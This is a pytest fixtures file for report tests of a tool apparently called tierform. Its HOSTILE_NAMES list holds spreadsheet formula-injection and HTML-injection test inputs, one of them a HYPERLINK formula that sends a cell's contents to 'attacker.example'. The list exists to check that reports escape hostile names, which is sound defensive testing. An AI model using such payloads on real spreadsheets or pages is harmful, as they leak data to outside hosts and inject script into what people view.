"""Fixtures for the report tests: the bundled example run through the CLI once per session,
the engine's own JSON for the same inputs, and a book whose names try to become formulas."""

from __future__ import annotations

import datetime as dt
import shutil
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from click.testing import CliRunner

from tierform.cli.main import cli
from tierform.core.assign import assign_books
from tierform.core.book import AccountBook, read_book
from tierform.core.capacity import CapacityResult, plan_capacity
from tierform.core.health.score import score_health
from tierform.core.loader import load_model
from tierform.core.model import CoverageModel
from tierform.core.playbooks.library import coverage_matrix
from tierform.core.segment import SegmentResult, segment
from tierform.testing.sample import generate_accounts, write_csv

from ..conftest import EXAMPLES

AS_OF = dt.date(2026, 11, 1)
HOSTILE_NAMES = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
    "<script>alert(1)</script>",
    "Pipe | and *stars*",
]


@dataclass
class Engine:
    """The engine's results for the example, computed directly (not through the report)."""

    model: CoverageModel
    book: AccountBook
    seg: SegmentResult
    cap: CapacityResult
    json: dict[str, Any]


@dataclass
class ExampleRun:
    folder: Path
    out: Path
    stdout: str

    @property
    def html(self) -> Path:
        return self.out / "coverage-model.html"

    @property
    def markdown(self) -> Path:
        return self.out / "coverage-model.md"

    @property
    def workbook(self) -> Path:
        return self.out / "coverage-model.xlsx"


@pytest.fixture(scope="session")
def example_run(tmp_path_factory: pytest.TempPathFactory) -> ExampleRun:
    """The README's main command on a copy of the bundled example."""
    folder = tmp_path_factory.mktemp("example")
    for name in ("tierform.yaml", "accounts.csv"):
        shutil.copy(EXAMPLES / name, folder / name)
    out = folder / "out"
    result = CliRunner().invoke(
        cli,
        [
            "report",
            "--accounts",
            str(folder / "accounts.csv"),
            "-c",
            str(folder / "tierform.yaml"),
            "--out",
            str(out),
            "--as-of",
            AS_OF.isoformat(),
        ],
        catch_exceptions=False,
    )
    assert result.exit_code == 0, result.output
    return ExampleRun(folder, out, result.stdout)


@pytest.fixture(scope="session")
def engine(example_run: ExampleRun) -> Engine:
    model = load_model(example_run.folder / "tierform.yaml")
    book = read_book(example_run.folder / "accounts.csv", model.accounts)
    seg = segment(model, book)
    cap = plan_capacity(model, seg)
    health = score_health(model, book, seg, as_of=AS_OF)
    data: dict[str, Any] = {
        "segment": seg.to_dict(include_assignments=False),
        "capacity": cap.to_dict(),
        "assign": assign_books(model, seg).to_dict(),
        "health": health.to_dict(),
        "playbooks": coverage_matrix(model).to_dict(),
    }
    try:
        from tierform.core.rules.testing import run_rule_tests as test_rules
    except ImportError:  # the report then shows no rule-test figures either
        return Engine(model, book, seg, cap, data)
    tests = test_rules(model)
    data["rules"] = tests.to_dict() | {"checks": [c.to_dict() for c in tests.checks]}
    return Engine(model, book, seg, cap, data)


@pytest.fixture(scope="session")
def hostile_csv(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A generated book (default model's column names) with formula-like and HTML names."""
    table = generate_accounts(150, seed=11)
    names = table.column("name").to_pylist()
    for i, text in enumerate(HOSTILE_NAMES):
        names[i * 7] = text
    table = table.set_column(table.column_names.index("name"), "name", pa.array(names))
    path = tmp_path_factory.mktemp("hostile") / "accounts.csv"
    write_csv(table, str(path))
    return path


def resolve(data: Any, key: str) -> Any:
    """The value at a dotted JSON path (list indexes as numbers)."""
    for part in key.split("."):
        data = data[int(part)] if isinstance(data, list) else data[part]
    return data
